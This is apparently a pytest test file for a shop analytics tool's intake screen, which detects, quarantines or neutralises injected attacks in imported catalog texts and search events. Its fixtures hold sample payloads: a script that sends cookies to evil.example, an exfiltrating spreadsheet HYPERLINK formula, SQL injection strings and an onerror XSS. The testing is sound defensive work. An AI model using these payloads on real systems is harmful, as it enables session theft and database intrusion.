"""The guard at the doors for files: attacks in imported texts are found, told, and set apart or made harmless."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shopr.analytics.intake.loading import load_events
from shopr.analytics.store.event_store import EventStore
from shopr.config import Settings
from shopr.data.catalog import Catalog
from shopr.data.dataset import Dataset
from shopr.data.events import Event, EventType
from shopr.data.simulator import simulate
from shopr.errors import InputError
from shopr.security.detectors.detector import Detector
from shopr.security.intake import SCREENED_COLUMNS, Screen, screen_dataset

NOW = datetime(2026, 5, 4, 12, tzinfo=UTC)
SCRIPT = "<p>A lamp</p><script>fetch('//evil.example/?'+document.cookie)</script>"
FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Lamp")'
DETECTOR = Detector()


def products() -> Catalog:
    rows = [
        {"product_id": "A", "title": "Red lamp", "description": SCRIPT},
        {"product_id": "B", "title": "Blue lamp", "description": "<p>Warm <b>light</b>,<br/>2 x 40 W; Ø 30 cm</p>"},
        {"product_id": "C", "title": FORMULA, "description": "plain", "attributes": '{"size":"' + "10" + '"}'},
        {
            "product_id": "D",
            "title": "Green lamp",
            "attributes": json.dumps({"note": "x' union select 1,2 from users--"}),
        },
    ]
    return Catalog.from_frame(pd.DataFrame(rows).fillna(""))


def searches() -> pd.DataFrame:
    asked = ["blue lamp", "' or 1=1 union select password from users --", "lamp < 30"]
    return pd.DataFrame(
        [
            Event(type=EventType.SEARCH_PERFORMED, time=NOW, session_id=f"s{i}", properties={"query": q}).to_row()
            for i, q in enumerate(asked)
        ]
    )


def shop() -> Dataset:
    return Dataset.build("lamps", "tabular", products(), searches(), counts={"lines": 3})


def test_rows_with_attacks_are_set_apart_whole_and_listed() -> None:
    screen = Screen("quarantine", DETECTOR)
    kept = screen_dataset(shop(), screen)
    assert kept.catalog.frame["product_id"].tolist() == ["B"]
    assert kept.events["query"].tolist() == ["blue lamp", "lamp < 30"]
    apart = kept.extras["quarantine_catalog"]
    assert apart.set_index("product_id").loc["A", "description"] == SCRIPT
    assert len(kept.extras["quarantine_events"]) == 1
    listed = kept.extras["screened"]
    assert tuple(listed.columns) == SCREENED_COLUMNS
    found = set(zip(listed["table"], listed["id"], listed["column"], strict=True))
    assert {("catalog", "A", "description"), ("catalog", "C", "title"), ("catalog", "D", "attributes")} <= found
    assert kept.manifest.counts["rows quarantined"] == 4
    assert kept.manifest.counts["lines"] == 3
    assert kept.manifest.counts["products"] == 1


def test_what_was_set_apart_survives_on_disk(tmp_path: Path) -> None:
    saved = Dataset.load(screen_dataset(shop(), Screen("quarantine", DETECTOR)).save(tmp_path / "shop"))
    assert saved.extras["quarantine_catalog"]["product_id"].tolist() == ["A", "C", "D"]
    assert len(saved.extras["screened"]) == 4


def test_texts_are_made_harmless_on_request_and_no_row_goes() -> None:
    screen = Screen("neutralise", DETECTOR)
    kept = screen_dataset(shop(), screen)
    assert len(kept.catalog) == 4
    assert len(kept.events) == 3
    cells = [*kept.catalog.frame["title"], *kept.catalog.frame["description"], *kept.events["query"]]
    again = Screen("keep", DETECTOR)
    assert [text for text in cells if again.judge(text).decision == "block"] == []
    assert not any("<script" in text or text.startswith("=") for text in cells)
    note = json.loads(kept.catalog.frame.set_index("product_id").loc["D", "attributes"])
    assert "'" not in note["note"]
    assert screen.found.neutralised == screen.found.blocked == 4


def test_keeping_only_tells() -> None:
    kept = screen_dataset(shop(), Screen("keep", DETECTOR))
    assert len(kept.catalog) == 4
    assert kept.catalog.frame.loc[0, "description"] == SCRIPT
    assert set(kept.extras["screened"]["action"]) == {"keep"}


def test_a_clean_shop_comes_back_as_it_is() -> None:
    clean = simulate(name="demo", seed=3, products=120, shoppers=40, days=10)
    screen = Screen("quarantine", DETECTOR)
    assert screen_dataset(clean, screen) is clean
    assert screen.found.counts() == {}
    assert screen.found.texts > 100


def test_product_texts_of_electronics_are_no_attacks(shared_data: Path) -> None:
    frame = pd.read_parquet(shared_data / "search" / "chorus_products.parquet", columns=["title", "short_description"])
    texts = pd.unique(frame.melt()["value"].dropna())[::25]
    screen = Screen("quarantine", DETECTOR)
    verdicts = [screen.judge(str(text)).decision for text in texts]
    assert len(verdicts) > 1000
    assert verdicts.count("block") <= 1
    assert verdicts.count("flag") <= 0.003 * len(verdicts)


def test_an_unknown_policy_is_refused() -> None:
    with pytest.raises(InputError, match="shrug"):
        Screen("shrug")  # type: ignore[arg-type]


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=120))
def test_what_was_made_harmless_is(text: str) -> None:
    screen = Screen("neutralise", DETECTOR)
    for attack in (f"{text}<script>alert(1)</script>", f"' union select {text} from users--"):
        assert DETECTOR.detect(screen.neutral(attack)).decision == "allow"


@pytest.mark.parametrize("ending", ["parquet", "jsonl"])
def test_events_of_a_file_are_read_before_they_are_stored(ending: str, tmp_path: Path) -> None:
    asked = ["blue lamp", "<img src=x onerror=alert(1)>"]
    events = [
        Event(type=EventType.SEARCH_PERFORMED, time=NOW, session_id="s", properties={"query": q, "source": "app"})
        for q in asked
    ]
    path = tmp_path / f"events.{ending}"
    if ending == "jsonl":
        path.write_text("\n".join(event.model_dump_json() for event in events))
    else:
        pd.DataFrame([event.to_row() for event in events]).to_parquet(path)
    for policy, stored in (("quarantine", 1), ("neutralise", 2), ("keep", 2)):
        store = EventStore.open(Settings.sandbox(seed=1))
        screen = Screen(policy, DETECTOR)  # type: ignore[arg-type]
        done = load_events(store, path, screen=screen)
        assert (done.rows, done.new) == (2, stored)
        assert screen.found.blocked == 1
        with store.query() as found:
            queries = [row[0] or "" for row in found.sql("SELECT query FROM events").fetchall()]
        assert any("onerror=" in query for query in queries) == (policy == "keep")
        assert sum(done.rejected.values()) == 2 - stored
